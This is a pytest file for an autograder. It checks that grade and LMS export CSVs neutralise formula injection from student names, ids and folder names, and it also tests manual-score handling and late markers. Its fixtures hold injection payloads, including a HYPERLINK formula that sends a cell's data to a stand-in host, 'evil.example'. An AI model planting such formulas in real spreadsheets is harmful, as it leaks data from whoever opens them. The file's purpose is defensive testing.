"""What a student's names and files do outside the sandbox, in what the instructor opens:
every CSV read back as a spreadsheet reads it, a manual score that stays with the notebook it
was given for, and a run that says only what is true."""
from __future__ import annotations

import csv
import json
import shutil
import zipfile
from pathlib import Path

import pytest

from autograder.store.gradebook import open_gradebook
from tests.conftest import needs_sandbox, read_csv
from tests.builders import autograder, base_notebook, ok, with_answer, write, WRONG

A = "02_similarity"
MAX = 11.0
LINK = '=HYPERLINK("evil.example?"&A1,"open")'    # no slash: it is also a folder's name
# Hostile text a student controls: a name given to the registrar, a login, a folder name.
ROSTER = f"""id,name,email,extension,lms_id,section
s1,"=1+2, Eve",s1@example.org,,7001,A
s2,@SUM(1+1),s2@example.org,,7002,A
s3,"{LINK.replace('"', '""')}",-s3@example.org,,7003,+B
s4,Dave Bowman,s4@example.org,,7004,A
s5,Hal Jordan,s5@example.org,,7005,A
"""


def formula(cell: str) -> bool:
    """How a spreadsheet (Excel, LibreOffice, Sheets) reads a CSV cell: a formula when it starts
    with = + - @ (a tab or CR first too), unless the whole cell is a number. An apostrophe
    in front makes it text."""
    text = cell.lstrip(" ")
    if not text or text[0] not in "=+-@\t\r":
        return False
    try:
        float(text)
        return False
    except ValueError:
        return True


def cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    subs, ws = base / "subs", base / "ws"
    write(subs / "s1", with_answer(WRONG))
    write(subs / "s2", base_notebook())
    write(subs / "s3", base_notebook())
    (subs / "s5" / f"{LINK}.ipynb").mkdir(parents=True)    # s5 uploaded a folder whose name is a formula
    write(subs / "-2+3", base_notebook())                   # an id that is a formula (not on the roster)
    (base / "roster.csv").write_text(ROSTER)
    proc = ok(autograder("grade", A, subs, "--workspace", ws, "--workers", "2", "--roster", base / "roster.csv",
                         "--quiet"))
    return {"base": base, "subs": subs, "ws": ws, "roster": base / "roster.csv", "proc": proc}


@needs_sandbox
def test_every_csv_the_course_writes_reads_as_data_in_a_spreadsheet(hostile_class):
    ws, roster = hostile_class["ws"], hostile_class["roster"]
    grades = cells(ws / "reports" / A / "grades.csv")
    header = grades[0]
    by_id = {row[0]: dict(zip(header, row)) for row in grades[1:]}
    # the attack reached the file as text: the flag names the folder, behind an apostrophe
    assert by_id["s5"]["flags"].startswith("'" + LINK), by_id["s5"]["flags"]
    assert by_id["s1"]["name"] == "'=1+2, Eve" and by_id["s2"]["name"] == "'@SUM(1+1)"
    assert "'-2+3" in by_id, list(by_id)
    files = {"grades.csv": grades}
    for fmt, name in [("canvas", "canvas.csv"), ("moodle", "moodle.csv"), ("moodle-worksheet", "moodle-worksheet.csv"),
                      ("csv", "export.csv")]:
        ok(autograder("export", A, "--format", fmt, "--workspace", ws, "--roster", roster))
        files[name] = cells(ws / "reports" / A / name)
    for name, rows in files.items():
        bad = [(i, cell) for i, row in enumerate(rows) for cell in row if formula(cell)]
        assert not bad, f"{name}: cells a spreadsheet runs as formulas: {bad}"
    # numbers stay numbers, so the LMS's import reads the scores; ids are what the LMS matches on
    canvas = files["canvas.csv"]
    assert canvas[1][5] == "11"
    points = {row[1]: float(row[5]) for row in canvas[2:]}
    assert points["7002"] == MAX and points["7003"] == MAX and points["7004"] == 0.0 and points["7001"] < MAX
    assert {row[2] for row in canvas[2:]} == {"s1", "s2", "s3", "s4", "s5"}
    moodle = {row[2]: row for row in files["moodle.csv"][1:]}
    assert float(moodle["s2"][4]) == MAX and moodle["s3"][3] == "'-s3@example.org"
    sheet = {row[0]: row for row in files["moodle-worksheet.csv"][1:]}
    assert float(sheet["Participant 7003"][3]) == MAX and "=HYPERLINK" in sheet["Participant 7003"][1]
    for row in files["export.csv"][1:]:
        float(row[-1]), float(row[-2])                     # score and max_score are numbers


@needs_sandbox
def test_a_manual_score_stays_with_the_notebook_it_was_given_for(hostile_class, tmp_path):
    ws = tmp_path / "ws"
    shutil.copytree(hostile_class["ws"], ws)
    subs, roster = tmp_path / "subs", hostile_class["roster"]
    shutil.copytree(hostile_class["subs"], subs)
    url = f"sqlite:///{ws / 'gradebook.db'}"
    failing = next(t["grade_id"] for t in json.loads((ws / "results" / A / "s1.json").read_text())["tests"]
                   if not t["passed"])
    with open_gradebook(url) as gb:                         # what Formgrader does
        gb.find_grade(failing, A, A, "s1").manual_score = 0.5
        gb.find_grade("test_dot_similarity_torch", A, A, "s2").manual_score = 0.25
        gb.db.commit()
    # the same notebooks graded again (a new secret would do the same): the scores by hand stay
    ok(autograder("grade", A, subs, "--workspace", ws, "--roster", roster, "--regrade", "--quiet"))
    rows = {r["student"]: r for r in read_csv(ws, A)}
    assert rows["s1"][failing] == "0.5" and rows["s2"]["test_dot_similarity_torch"] == "0.25"
    # s1 resubmits a right notebook: 0.5 was given for the old code and is not carried over
    write(subs / "s1", base_notebook())
    proc = ok(autograder("grade", A, subs, "--workspace", ws, "--roster", roster, "--quiet"))
    rows = {r["student"]: r for r in read_csv(ws, A)}
    assert float(rows["s1"]["score"]) == MAX, rows["s1"]
    assert rows["s2"]["test_dot_similarity_torch"] == "0.25", "s2's notebook did not change: its score stays"
    note = [line for line in proc.stdout.splitlines() if line.startswith("warning:") and "s1" in line]
    assert note and f"{failing} 0.5" in note[0] and "not carried over" in note[0], proc.stdout
    assert not any("s2" in line for line in proc.stdout.splitlines() if "not carried over" in line)
    kept = json.loads((ws / "results" / A / "s1.json").read_text())["dropped_manual"]
    assert kept["scores"] == {failing: 0.5}
    with open_gradebook(url) as gb:
        assert gb.find_grade(failing, A, A, "s1").manual_score is None
    page = (ws / "feedback" / "s1" / A / "feedback.html").read_text()
    assert "set by your instructor" not in page and "Score: <strong>11 / 11</strong>" in page
    # the next run says nothing more about it
    proc = ok(autograder("grade", A, subs, "--workspace", ws, "--roster", roster, "--quiet"))
    assert "not carried over" not in proc.stdout


@needs_sandbox
def test_a_partial_regrade_names_only_the_students_who_changed(hostile_class, tmp_path):
    ws = tmp_path / "ws"
    shutil.copytree(hostile_class["ws"], ws)
    only = tmp_path / "only"
    shutil.copytree(hostile_class["subs"] / "s2", only / "s2")
    proc = ok(autograder("grade", A, only, "--workspace", ws, "--roster", hostile_class["roster"], "--quiet",
                         "--student", "s2"))
    assert "changed since graded" not in proc.stdout, proc.stdout
    assert "not in this download, kept as graded before: -2+3, s1, s3" in proc.stdout, proc.stdout
    # one that did change since graded is named as such
    changed = tmp_path / "changed"
    shutil.copytree(hostile_class["subs"], changed)
    write(changed / "s3", with_answer(WRONG))
    proc = ok(autograder("grade", A, changed, "--workspace", ws, "--roster", hostile_class["roster"], "--quiet",
                         "--student", "s2"))
    assert "changed since graded, kept as they were (regrade them with --student): s3" in proc.stdout, proc.stdout
    assert "not in this download" not in proc.stdout


CANVAS_ROSTER = """Student,ID,SIS User ID,SIS Login ID,Section,Similarity (4821)
    Points Possible,,,,,11
"Usman, Zainab",31022,s2401016,zusman,A,
"Liddell, Alice",31023,s2401017,aliddell,A,
"""


@needs_sandbox
def test_a_canvas_late_marker_is_not_shown_as_a_submission_time(tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "canvas.csv").write_text(CANVAS_ROSTER)
    (ws / "term.toml").write_text('roster = "canvas.csv"\nlate_policy = "per-day:10"\ntimezone = "Europe/Berlin"\n'
                                  f'[{A}]\ndue = "2025-03-14T23:59:00+01:00"\n')
    import nbformat

    right = nbformat.writes(base_notebook()).encode()
    with zipfile.ZipFile(tmp_path / "subs.zip", "w") as z:
        for name in (f"usmanzainab_LATE_31022_6789160_{A}.ipynb", f"liddellalice_31023_6789161_{A}.ipynb"):
            z.writestr(zipfile.ZipInfo(name, date_time=(2025, 3, 20, 9, 41, 0)), right)
    ok(autograder("grade", A, tmp_path / "subs.zip", "--workspace", ws, "--quiet"))
    page = (ws / "feedback" / "s2401016" / A / "feedback.html").read_text()
    assert "Submitted" not in page and "00:59" not in page, page
    assert "Canvas marked this submission <strong>late</strong>" in page and "counts as 1 h late" in page, page
    assert "Late penalty: <strong>&minus;1.1</strong>" in page
